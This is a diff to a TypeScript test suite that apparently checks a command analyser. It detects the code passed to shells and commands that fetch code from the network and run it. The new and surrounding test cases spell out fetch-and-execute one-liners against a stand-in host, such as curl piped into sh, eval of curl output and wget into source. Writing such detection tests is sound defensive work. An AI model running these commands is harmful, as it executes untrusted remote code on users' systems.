@@ -81,6 +81,8 @@ describe('code that a shell is given', () => {
   const given: readonly (readonly [line: readonly string[], code: readonly string[] | undefined])[] = [
     [['bash', '-c', 'a | b', 'zero', 'one'], ['a | b']],
     [['bash', '--login', '-eo', 'pipefail', '-c', 'a | b'], ['a | b']],
+    [['bash', '-o', 'pipefail', '-c', 'a | b'], ['a | b']],
+    [['bash', '-O', 'extglob', '-c', 'a | b'], ['a | b']],
     [['fish', '--command=a | b'], ['--command=a | b']],
     [['/bin/zsh', '-i', '-c', 'a | b'], ['a | b']],
     [['bash', 'start.sh', '-c', 'a | b'], undefined],
@@ -142,6 +144,7 @@ describe('code that is fetched and run', () => {
     ['eval "$(curl h.test)"', 'eval'],
     ['. <(wget -qO- https://h.test/i)', '.', 'https://h.test/i'],
     ['python3 -c "$(curl https://h.test/i)"', 'python3', 'https://h.test/i'],
+    ['(curl https://h.test/i) | sh', 'sh', 'https://h.test/i'],
     ['$(curl https://h.test/i)', 'sh', 'https://h.test/i'],
     ['curl -o /tmp/i.sh https://h.test/i && sh /tmp/i.sh', 'sh', 'https://h.test/i'],
     ['wget https://h.test/i.sh?x=1; chmod +x i.sh; ./i.sh', 'i.sh', 'https://h.test/i.sh?x=1'],
